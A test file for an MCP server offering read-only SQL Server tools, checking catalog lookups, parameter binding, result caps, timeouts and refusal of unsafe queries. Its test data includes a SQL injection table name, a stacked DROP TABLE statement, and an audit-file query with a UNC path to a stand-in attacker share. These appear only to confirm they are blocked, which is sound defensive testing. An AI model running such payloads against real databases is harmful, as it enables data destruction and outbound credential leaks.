// Every tool through the official MCP client (Client + StreamableHTTPClientTransport) over HTTP on
// loopback, against the app on the real runtime. SQL Server is the mssql stand-in
// (test/support/mssql-stand-in.ts): it stands in for the mssql driver and the server behind it.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { startMcpApp, type RunningMcpApp } from '@mcp-gateway/mcp-runtime';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createApp } from '../src/app.ts';
import { loadConfig } from '../src/config.ts';
import { COLUMN_NAMES_SQL, DESCRIBE_SQL, LIST_SCHEMAS_SQL, LIST_TABLES_SQL, RESOLVE_OBJECT_SQL } from '../src/db/catalog.ts';
import { createLogger } from '@mcp-gateway/telemetry';
import { TOOL_NAMES } from '../src/tools/index.ts';
import { createMssqlStandIn, generatedRows, serverError, StandInServer, type ReceivedBatch, type Reply } from './support/mssql-stand-in.ts';

const silentLogger = createLogger({ service: 'mcp-mssql', level: 'silent' });

const ROW_LIMIT = 25;
const BYTE_LIMIT = 64 * 1024;
const dir = mkdtempSync(join(tmpdir(), 'mcp-mssql-e2e-'));
writeFileSync(join(dir, 'username'), 'reader\n');
writeFileSync(join(dir, 'password'), 'p@ss\n');

const objects = [
  { objectId: 101, schema: 'dbo', name: 'Orders', type: 'table' },
  { objectId: 102, schema: 'dbo', name: 'Odd]Name', type: 'table' },
  { objectId: 201, schema: 'sales', name: 'Orders', type: 'view' },
];

/** The catalog the stand-in serves, answering the app's catalog statements by their text. */
function catalogReply(batch: ReceivedBatch): Reply | undefined {
  const sql = batch.sql.replace(/^SET LOCK_TIMEOUT \d+;\n/, '');
  const col = (name: string, type = 'nvarchar') => ({ name, type });
  if (sql === LIST_SCHEMAS_SQL) {
    return { resultSets: [{ columns: [col('schema'), col('tables', 'int'), col('views', 'int')], rows: [['dbo', 2, 0], ['sales', 0, 1]] }] };
  }
  if (sql === LIST_TABLES_SQL) {
    const rows = objects.filter((o) => batch.params['schema'] === null || o.schema === batch.params['schema']).map((o) => [o.schema, o.name, o.type]);
    return { resultSets: [{ columns: [col('schema'), col('name'), col('type')], rows }] };
  }
  if (sql === RESOLVE_OBJECT_SQL) {
    const rows = objects
      .filter((o) => o.name === batch.params['name'])
      .map((o) => [o.objectId, o.schema, o.name, o.type, o.schema === batch.params['schema'] ? 1 : 0])
      .sort((a, b) => Number(b[4]) - Number(a[4]));
    return { resultSets: [{ columns: [col('objectId', 'int'), col('schema'), col('name'), col('type'), col('inSchema', 'int')], rows }] };
  }
  if (sql === DESCRIBE_SQL && batch.params['objectId'] === 101) {
    return {
      resultSets: [
        {
          columns: ['name', 'type', 'maxLength', 'precision', 'scale', 'nullable', 'isIdentity', 'isComputed', 'defaultValue'].map((n) => col(n)),
          rows: [
            ['id', 'int', 4, 10, 0, false, true, false, null],
            ['customer', 'nvarchar', 100, 0, 0, false, false, false, null],
            ['total', 'decimal', 9, 18, 2, true, false, false, '((0))'],
          ],
        },
        {
          columns: ['indexName', 'kind', 'isUnique', 'isPrimaryKey', 'columnName', 'included', 'descending'].map((n) => col(n)),
          rows: [
            ['PK_Orders', 'CLUSTERED', true, true, 'id', false, false],
            ['IX_Orders_customer', 'NONCLUSTERED', false, false, 'customer', false, true],
            ['IX_Orders_customer', 'NONCLUSTERED', false, false, 'total', true, false],
          ],
        },
        {
          columns: ['foreignKey', 'columnName', 'refSchema', 'refTable', 'refColumn', 'onDelete', 'onUpdate'].map((n) => col(n)),
          rows: [['FK_Orders_Customers', 'customer', 'dbo', 'Customers', 'code', 'NO_ACTION', 'CASCADE']],
        },
      ],
    };
  }
  if (sql === COLUMN_NAMES_SQL) {
    const names = batch.params['objectId'] === 102 ? ['a]b', 'c'] : ['id', 'customer', 'total'];
    return { resultSets: [{ columns: [col('name')], rows: names.map((n) => [n]) }] };
  }
  return undefined;
}

let server: StandInServer;
let app: RunningMcpApp;
let client: Client;

beforeAll(async () => {
  server = new StandInServer();
  const config = {
    ...loadConfig({
      MSSQL_SERVER: 'sql.test',
      MSSQL_DATABASE: 'sales',
      MSSQL_USER_FILE: join(dir, 'username'),
      MSSQL_PASSWORD_FILE: join(dir, 'password'),
      MSSQL_ROW_LIMIT: String(ROW_LIMIT),
      MSSQL_QUERY_TIMEOUT_MS: '200',
    }),
    resultByteLimit: BYTE_LIMIT,
  };
  app = await startMcpApp(createApp(config, { driver: createMssqlStandIn(server), log: silentLogger }), { port: 0, host: '127.0.0.1' }, { logSink: () => undefined });
  client = new Client({ name: 'mcp-mssql-test', version: '1.0.0' });
  await client.connect(new StreamableHTTPClientTransport(app.url));
});

afterAll(async () => {
  await client?.close();
  await app?.close();
  rmSync(dir, { recursive: true, force: true });
});

beforeEach(() => {
  server.batches.length = 0;
  server.events.length = 0;
  server.cancels = 0;
  server.rowsSent = 0;
  server.handler = (batch) => {
    const catalog = catalogReply(batch);
    if (catalog !== undefined) return catalog;
    throw new Error(`the stand-in has no reply for: ${batch.sql}`);
  };
});

async function call(name: string, args: Record<string, unknown> = {}) {
  return client.callTool({ name, arguments: args });
}

function text(result: Awaited<ReturnType<typeof call>>): string {
  const first = (result.content as Array<{ type: string; text?: string }>)[0];
  return first?.text ?? '';
}

describe('tools/list', () => {
  it('lists the five tools, all read-only', async () => {
    const { tools } = await client.listTools();
    expect(tools.map((t) => t.name)).toEqual([...TOOL_NAMES]);
    for (const tool of tools) expect(tool.annotations).toMatchObject({ readOnlyHint: true, destructiveHint: false });
  });
});

describe('catalog tools', () => {
  it('list_schemas', async () => {
    const result = await call('list_schemas');
    expect(result.isError).toBeFalsy();
    expect(result.structuredContent).toEqual({ schemas: [{ schema: 'dbo', tables: 2, views: 0 }, { schema: 'sales', tables: 0, views: 1 }] });
    expect(JSON.parse(text(result))).toEqual(result.structuredContent);
    // Catalog reads run read-only too.
    expect(server.events).toContain('rollback');
    expect(server.batches.every((b) => b.inTransaction && b.sql.startsWith('SET LOCK_TIMEOUT 5000;'))).toBe(true);
  });

  it('list_tables, all and by schema (the schema travels as a parameter)', async () => {
    const all = await call('list_tables');
    expect((all.structuredContent as { tables: unknown[] }).tables).toHaveLength(3);
    const sales = await call('list_tables', { schema: 'sales' });
    expect(sales.structuredContent).toEqual({ tables: [{ schema: 'sales', name: 'Orders', type: 'view' }], truncated: false });
    expect(server.batches.at(-1)!.params).toEqual({ schema: 'sales' });
  });

  it('describe_table: columns, primary key, indexes, foreign keys', async () => {
    const result = await call('describe_table', { table: 'Orders' });
    expect(result.isError).toBeFalsy();
    expect(JSON.parse(text(result))).toEqual({
      schema: 'dbo',
      name: 'Orders',
      type: 'table',
      columns: [
        { name: 'id', type: 'int', nullable: false, identity: true },
        { name: 'customer', type: 'nvarchar(50)', nullable: false },
        { name: 'total', type: 'decimal(18,2)', nullable: true, default: '((0))' },
      ],
      primaryKey: { name: 'PK_Orders', columns: ['id'] },
      indexes: [
        { name: 'PK_Orders', kind: 'clustered', unique: true, primaryKey: true, columns: ['id'], included: [] },
        { name: 'IX_Orders_customer', kind: 'nonclustered', unique: false, primaryKey: false, columns: ['customer DESC'], included: ['total'] },
      ],
      foreignKeys: [
        {
          name: 'FK_Orders_Customers',
          columns: ['customer'],
          references: { schema: 'dbo', table: 'Customers', columns: ['code'] },
          onDelete: 'no_action',
          onUpdate: 'cascade',
        },
      ],
    });
  });

  it('describe_table: an unknown table is a clear error that says where the name exists', async () => {
    const missing = await call('describe_table', { schema: 'hr', table: 'Orders' });
    expect(missing.isError).toBe(true);
    expect(text(missing)).toBe('error (not-found): no table or view hr.Orders is visible to this login (found: dbo.Orders, sales.Orders)');
    const nowhere = await call('describe_table', { table: "x'; DROP TABLE t; --" });
    expect(text(nowhere)).toContain('no table or view dbo.x');
    // The hostile name only ever travelled as a parameter value.
    expect(server.batches.map((b) => b.sql).join('\n')).not.toContain('DROP');
  });

  it('sample_rows: catalog-checked names, bracket-quoted, row count as a parameter', async () => {
    server.on(/^SET LOCK_TIMEOUT 5000;\nSELECT TOP \(@limit\)/, (batch) => ({
      resultSets: [{ columns: [{ name: 'a]b', type: 'int' }, { name: 'c', type: 'nvarchar' }], rows: generatedRows(Number(batch.params['limit']), (i) => [i, `r${i}`]) }],
    }));
    const result = await call('sample_rows', { table: 'Odd]Name', columns: ['A]B', 'c'], limit: 3 });
    expect(result.isError).toBeFalsy();
    expect(result.structuredContent).toMatchObject({ schema: 'dbo', table: 'Odd]Name', rowCount: 3, truncated: false, rows: [[0, 'r0'], [1, 'r1'], [2, 'r2']] });
    const sample = server.batches.at(-1)!;
    expect(sample.sql).toBe('SET LOCK_TIMEOUT 5000;\nSELECT TOP (@limit) [a]]b], [c] FROM [dbo].[Odd]]Name]');
    expect(sample.params).toEqual({ limit: 3 });
  });

  it('sample_rows: unknown columns and out-of-range limits are refused', async () => {
    const badColumn = await call('sample_rows', { table: 'Orders', columns: ['id', 'nope'] });
    expect(text(badColumn)).toBe('error (not-found): no column "nope" (columns: id, customer, total)');
    const tooMany = await call('sample_rows', { table: 'Orders', limit: 5000 });
    expect(tooMany.isError).toBe(true);
    expect(text(tooMany)).toMatch(/limit/);
  });
});

describe('run_query', () => {
  it('returns compact JSON with column metadata and passes named parameters', async () => {
    server.on('FROM dbo.Orders WHERE', {
      resultSets: [{ columns: [{ name: 'id', type: 'int', nullable: false }, { name: 'placed', type: 'datetime2' }], rows: [[7, new Date('2026-01-02T03:04:05Z')]] }],
    });
    const result = await call('run_query', {
      sql: 'SELECT id, placed FROM dbo.Orders WHERE customer = @customer AND total > @min -- newest first',
      params: { customer: 'ACME', '@min': 10.5 },
    });
    expect(result.isError).toBeFalsy();
    expect(JSON.parse(text(result))).toEqual({
      columns: [{ name: 'id', type: 'int', nullable: false }, { name: 'placed', type: 'datetime2', nullable: true }],
      rows: [[7, '2026-01-02T03:04:05.000Z']],
      rowCount: 1,
      truncated: false,
      rowLimit: ROW_LIMIT,
      byteLimit: BYTE_LIMIT,
    });
    expect(server.batches.at(-1)).toMatchObject({
      sql: 'SET LOCK_TIMEOUT 5000;\nSELECT id, placed FROM dbo.Orders WHERE customer = @customer AND total > @min',
      params: { customer: 'ACME', min: 10.5 },
      inTransaction: true,
      stream: true,
    });
    expect(server.events.slice(-2)).toEqual(['begin:2', 'rollback']);
  });

  it('caps rows at MSSQL_ROW_LIMIT while streaming and cancels the rest', async () => {
    server.on('FROM dbo.Big', { resultSets: [{ columns: [{ name: 'n', type: 'int' }], rows: generatedRows(500_000, (i) => [i]) }] });
    const result = await call('run_query', { sql: 'SELECT n FROM dbo.Big' });
    const body = result.structuredContent as { rows: unknown[]; rowCount: number; truncated: boolean; note: string };
    expect(body.rows).toHaveLength(ROW_LIMIT);
    expect(body).toMatchObject({ rowCount: ROW_LIMIT, truncated: true });
    expect(body.note).toContain(`first ${ROW_LIMIT} rows`);
    expect(server.cancels).toBe(1);
    expect(server.rowsSent).toBe(ROW_LIMIT + 1);
  });

  it('caps the result in bytes while streaming: the row that would pass the cap cancels the query', async () => {
    const tenKilobytes = 'x'.repeat(10 * 1024);
    server.on('FROM dbo.Wide', { resultSets: [{ columns: [{ name: 'doc', type: 'nvarchar' }], rows: generatedRows(20, () => [tenKilobytes]) }] });
    const result = await call('run_query', { sql: 'SELECT doc FROM dbo.Wide' });
    const body = result.structuredContent as { rows: unknown[]; rowCount: number; truncated: boolean; note: string };
    expect(body).toMatchObject({ rowCount: 6, truncated: true, byteLimit: BYTE_LIMIT });
    expect(body.note).toContain(`the ${BYTE_LIMIT}-byte limit`);
    expect(server.cancels).toBe(1);
    expect(server.rowsSent).toBe(7);
  });

  it('refuses a query outside the allow-list with its reason, before anything reaches the server', async () => {
    const result = await call('run_query', { sql: "SELECT * FROM sys.fn_get_audit_file('\\\\attacker\\share\\*', DEFAULT, DEFAULT)" });
    expect(text(result)).toBe(
      'error (refused): query refused: FN_GET_AUDIT_FILE reads server files (logs, traces, audits) and, given a UNC path, makes the server connect to another host',
    );
    expect(server.batches).toEqual([]);
  });

  it('cancels a query past MSSQL_QUERY_TIMEOUT_MS', async () => {
    server.on('dbo.Slow', { hang: true });
    const result = await call('run_query', { sql: 'SELECT * FROM dbo.Slow' });
    expect(result.isError).toBe(true);
    expect(text(result)).toBe('error (timeout): the query ran longer than 200 ms and was cancelled');
    expect(server.cancels).toBe(1);
    expect(server.events.at(-1)).toBe('rollback');
  });

  it.each([
    ['permission denied', serverError(229, "The SELECT permission was denied on the object 'Salaries'."), "error (permission-denied): permission denied: The SELECT permission was denied on the object 'Salaries'."],
    ['syntax error', serverError(102, "Incorrect syntax near 'x'."), "error (syntax-error): syntax error: Incorrect syntax near 'x'."],
  ])('maps %s to a clear tool error', async (_name, error, expected) => {
    server.on('dbo.Salaries', { error });
    const result = await call('run_query', { sql: 'SELECT * FROM dbo.Salaries' });
    expect(result.isError).toBe(true);
    expect(text(result)).toBe(expected);
  });

  it('refuses hostile SQL before any batch reaches the server', async () => {
    const result = await call('run_query', { sql: "SELECT 1; EXEC('DROP TABLE dbo.Orders')" });
    expect(result.isError).toBe(true);
    expect(text(result)).toBe('error (refused): query refused: only one statement is accepted (found text after ";")');
    expect(server.batches).toHaveLength(0);
  });

  it('refuses missing and unused parameters by name', async () => {
    const missing = await call('run_query', { sql: 'SELECT * FROM t WHERE a = @a AND b = @b', params: { a: 1 } });
    expect(text(missing)).toBe('error (invalid-input): the query uses @b but no value was given in params');
    const unused = await call('run_query', { sql: 'SELECT 1 AS one', params: { typo: 1 } });
    expect(text(unused)).toBe('error (invalid-input): params @typo are not used by the query');
    expect(server.batches).toHaveLength(0);
  });
});

describe('readiness and sign-in over HTTP', () => {
  it('/readyz answers 200 when SELECT 1 answers', async () => {
    server.on('SELECT 1', { resultSets: [{ columns: [{ name: '', type: 'int' }], rows: [[1]] }] });
    const response = await fetch(new URL('/readyz', app.url));
    expect(response.status).toBe(200);
  });

  it('/readyz answers 503 when no SQL Server is configured, and tools say why', async () => {
    const bare = await startMcpApp(createApp(loadConfig({}), { driver: createMssqlStandIn(new StandInServer()), log: silentLogger }), { port: 0, host: '127.0.0.1' }, { logSink: () => undefined });
    const bareClient = new Client({ name: 'mcp-mssql-test', version: '1.0.0' });
    try {
      expect((await fetch(new URL('/readyz', bare.url))).status).toBe(503);
      await bareClient.connect(new StreamableHTTPClientTransport(bare.url));
      const result = await bareClient.callTool({ name: 'list_schemas', arguments: {} });
      expect(result.isError).toBe(true);
      expect(text(result)).toBe('error (not-configured): no SQL Server is configured (MSSQL_SERVER is empty)');
    } finally {
      await bareClient.close();
      await bare.close();
    }
  });

  it('a rejected login is a clear tool error', async () => {
    const failing = new StandInServer();
    failing.connectError = Object.assign(new Error("Login failed for user 'reader'."), { name: 'ConnectionError', code: 'ELOGIN' });
    const config = loadConfig({ MSSQL_SERVER: 'sql.test', MSSQL_USER_FILE: join(dir, 'username'), MSSQL_PASSWORD_FILE: join(dir, 'password') });
    const other = await startMcpApp(createApp(config, { driver: createMssqlStandIn(failing), log: silentLogger }), { port: 0, host: '127.0.0.1' }, { logSink: () => undefined });
    const otherClient = new Client({ name: 'mcp-mssql-test', version: '1.0.0' });
    try {
      await otherClient.connect(new StreamableHTTPClientTransport(other.url));
      const result = await otherClient.callTool({ name: 'run_query', arguments: { sql: 'SELECT 1 AS one' } });
      expect(text(result)).toBe("error (login-failed): SQL Server refused the sign-in: Login failed for user 'reader'.");
      expect(text(result)).not.toContain('p@ss');
    } finally {
      await otherClient.close();
      await other.close();
    }
  });
});
